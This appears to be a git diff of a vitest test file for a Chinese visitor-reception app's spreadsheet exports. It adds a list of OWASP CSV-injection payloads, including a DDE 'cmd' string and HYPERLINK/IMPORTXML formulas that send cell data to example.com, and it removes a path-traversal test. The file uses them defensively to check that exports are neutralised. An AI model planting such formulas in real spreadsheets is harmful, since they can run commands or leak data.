@@ -1,13 +1,12 @@
-import { readFileSync } from 'node:fs'
-import { join } from 'node:path'
-import { zipSync } from 'fflate'
+import { strFromU8, unzipSync, zipSync } from 'fflate'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import writeExcelFile from 'write-excel-file/node'
-import { vtimezone } from '../../electron/host/exchange/calendar/vtimezone.ts'
 import { doubtsOf } from '../../shared/domain/lists/guestDoubts.ts'
 import { readGuestTable } from '../../shared/domain/lists/guestTable.ts'
-import { aGuest, aRoom, aVisit, refusal } from '../support/builders.ts'
-import { type Client, root, type TestOffice, testOffice } from '../support/office.ts'
+import { aFullVisit, aGuest, aRoom, aVisit, refusal } from '../support/builders.ts'
+import { parseCsv } from '../support/csv.ts'
+import { type Client, type TestOffice, testOffice } from '../support/office.ts'
+import { convertedByLibreOffice, LIBREOFFICE } from '../support/programs.ts'
 
 let office: TestOffice
 let client: Client
@@ -40,6 +39,24 @@ const GB18030 = Uint8Array.from([
   0x2c,
   ...new TextEncoder().encode('13800000000\r\n'),
 ])
+
+/** Cells that spreadsheets would run: OWASP's CSV Injection page, and the full-width signs that Chinese Excel takes for the same. */
+const DANGEROUS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://example.com?leak="&A1,"Error")',
+  '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
+  '@A1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+]
 
 describe('reading a list', () => {
   it('takes .csv in UTF-8, with its mark, in GB18030, with semicolons', async () => {
@@ -106,7 +123,7 @@ describe('reading a list', () => {
   })
 })
 
-describe('exports', () => {
+describe('sheets for Excel', () => {
   const dangerous = ['=1+1', '+cmd', '-2', '@SUM(A1)', '\t=1', '＝1+1']
 
   it('.csv opens in Chinese Excel and holds no formula', async () => {
@@ -151,62 +168,6 @@ describe('exports', () => {
     expect(sheet).toContain('pane')
   })
 
-  it('.ics is what RFC 5545 asks for: zone, stable UIDs, UTC stamps, folding, CRLF', async () => {
-    const visit = await aVisit(client, { startsOn: '2026-12-01' })
-    const content = '双方就联合实验室建设与产业链合作进行深入会谈并签署备忘录，随后参观精密加工产线与展厅'
-    const { item } = await client.itinerary.add({
-      visitId: visit.id,
-      kind: 'meeting',
-      startsAt: '2026-12-01T09:00',
-      endsAt: '2026-12-01T10:00',
-      content,
-    })
-    const get = async () => (await office.get(`/exports/calendar.ics?visit=${visit.id}`)).text()
-    const text = await get()
-    for (const line of [
-      'METHOD:PUBLISH',
-      'BEGIN:VTIMEZONE',
-      'TZOFFSETTO:+0800',
-      `UID:item-${item.id}@yingbin`,
-      'DTSTART;TZID=Asia/Shanghai:20261201T090000',
-      'SEQUENCE:0',
-      'STATUS:TENTATIVE',
-      'TRIGGER:-PT15M',
-    ])
-      expect(text).toContain(line)
-    expect(text).toMatch(/DTSTAMP:\d{8}T\d{6}Z/)
-    expect(text.replaceAll('\r\n', '')).not.toContain('\n')
-    for (const line of text.split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75)
-    expect(text.replaceAll('\r\n ', '')).toContain(content)
-    await client.itinerary.update({ id: item.id, revision: 1, patch: { startsAt: '2026-12-01T09:30' } })
-    expect(await get()).toContain('SEQUENCE:1')
-  })
-
-  it('a zone with summer time names each change of clocks', () => {
-    const zone = vtimezone('America/New_York', 2026, 2026)
-    expect(zone).toContain('BEGIN:DAYLIGHT\r\nDTSTART:20260308T020000\r\nTZOFFSETFROM:-0500\r\nTZOFFSETTO:-0400')
-    expect(zone).toContain('BEGIN:STANDARD\r\nDTSTART:20261101T020000\r\nTZOFFSETFROM:-0400\r\nTZOFFSETTO:-0500')
-    expect(vtimezone('Asia/Shanghai', 2026, 2026).match(/BEGIN:(STANDARD|DAYLIGHT)/g)).toHaveLength(1)
-  })
-
-  it('the text to paste has no notes in it, and bad addresses are refused', async () => {
-    const visit = await aVisit(client, { startsOn: '2026-12-01' })
-    await client.itinerary.add({
-      visitId: visit.id,
-      kind: 'dining',
-      startsAt: '2026-12-01T12:00',
-      endsAt: '2026-12-01T13:00',
-      content: '午宴',
-      place: '餐厅',
-      notes: '内部备注',
-    })
-    const text = await (await office.get(`/exports/schedule.txt?visit=${visit.id}`)).text()
-    expect(text).toContain('12:00–13:00 午宴 @ 餐厅')
-    expect(text).not.toContain('内部备注')
-    expect((await office.get('/exports/schedule.exe?visit=x')).status).toBe(400)
-    expect((await office.get('/exports/calendar.ics?visit=00000000-0000-7000-8000-000000000000')).status).toBe(404)
-  })
-
   it('a template goes out and comes back', async () => {
     await aRoom(client, { name: '301 会议室', capacity: 20, equipment: ['投影', '白板'] })
     const bytes = new Uint8Array(await (await office.get('/exports/resource-template.xlsx?kind=room')).arrayBuffer())
@@ -222,19 +183,66 @@ describe('exports', () => {
   })
 })
 
-describe('the logo', () => {
-  it('is a PNG, JPEG or SVG, and an SVG is only ever a picture', async () => {
-    const svg = readFileSync(join(root, 'resources', 'icons', 'yingbin.svg'))
-    const { settings } = await client.office.setLogo({ file: file('logo.svg', svg) })
-    const answer = await office.get(`/files/${settings.logo}`)
-    expect(answer.status).toBe(200)
-    expect(answer.headers.get('content-security-policy')).toContain('sandbox')
-    expect((await refusal(client.office.setLogo({ file: file('a.png', 'hello') }))).data.reason).toBe('notAnImage')
-    expect((await refusal(client.office.setLogo({ file: file('a.png', new Uint8Array(1_000_001)) }))).data.reason).toBe(
-      'tooLarge',
-    )
-    await client.office.setLogo({ file: null })
-    expect((await office.get(`/files/${settings.logo}`)).status).toBe(404)
-    expect((await office.get('/files/..%2fyingbin.sqlite')).status).toBe(404)
+describe('tables', () => {
+  it.skipIf(!LIBREOFFICE)(
+    'an .xlsx opens in LibreOffice with the same cells, real dates and no formula',
+    { timeout: 120_000 },
+    async () => {
+      const { visit } = await aFullVisit(client)
+      for (const [index, name] of DANGEROUS.entries())
+        await aGuest(client, visit.id, { name: `危险${index}`, title: name, notes: name })
+      const guests = parseCsv(
+        convertedByLibreOffice(
+          'guests.xlsx',
+          await office.bytes(`/exports/guests.xlsx?visit=${visit.id}`),
+          'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
+        ),
+      )
+      expect(guests[0]).toEqual(expect.arrayContaining(['姓名', '职务']))
+      const title = guests[0]?.indexOf('职务') ?? -1
+      const shown = guests.slice(3).map(row => row[title])
+      expect(shown.map(cell => cell?.trim())).toEqual(DANGEROUS.map(cell => cell.trim()))
+      const schedule = parseCsv(
+        convertedByLibreOffice(
+          'schedule.xlsx',
+          await office.bytes(`/exports/schedule.xlsx?visit=${visit.id}`),
+          'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
+        ),
+      )
+      expect(schedule[1]?.slice(1, 3)).toEqual(['2026-12-01 10:00:00', '2026-12-01 11:30:00'])
+    },
+  )
+
+  it('an .xlsx has a filter, a frozen title that is printed on every page, and is as wide as the paper', async () => {
+    const { visit } = await aFullVisit(client)
+    const parts = unzipSync(await office.bytes(`/exports/guests.xlsx?visit=${visit.id}`))
+    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
+    expect(sheet).toMatch(/<autoFilter ref="A1:K3"\/>/)
+    expect(sheet).toMatch(/fitToPage="1"/)
+    expect(sheet).toMatch(/<pane [^>]*ySplit="1"/)
+    expect(sheet).not.toMatch(/<f[ >]/)
+    expect(sheet.indexOf('<autoFilter')).toBeGreaterThan(sheet.indexOf('</sheetData>'))
+    expect(strFromU8(parts['xl/workbook.xml'] ?? new Uint8Array())).toContain('_xlnm.Print_Titles')
+  })
+
+  it('a day in an .xlsx is a date, not text that looks like one', async () => {
+    const { visit } = await aFullVisit(client)
+    const serial = (Date.UTC(2026, 11, 1) - Date.UTC(1899, 11, 30)) / 86_400_000
+    for (const [file, cell] of [
+      [`schedule.xlsx?visit=${visit.id}`, 'A2'],
+      ['visits.xlsx?from=2026-12-01&until=2026-12-01', 'F2'],
+    ] as const) {
+      const parts = unzipSync(await office.bytes(`/exports/${file}`))
+      const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
+      expect(sheet).toMatch(new RegExp(`<c r="${cell}" s="\\d+"><v>${serial}</v>`))
+    }
+  })
+
+  it.each(DANGEROUS)('a .csv cell %j never begins as a formula', async cell => {
+    const visit = await aVisit(client)
+    await aGuest(client, visit.id, { name: '甲', notes: cell })
+    const [, row = []] = parseCsv((await office.text(`/exports/guests.csv?visit=${visit.id}`)).replace(/^\ufeff/, ''))
+    for (const shown of row) expect(shown).not.toMatch(/^[=+\-@\t\r＝＋－＠]/u)
+    expect(row.some(shown => shown.includes(cell.trim()))).toBe(true)
   })
 })
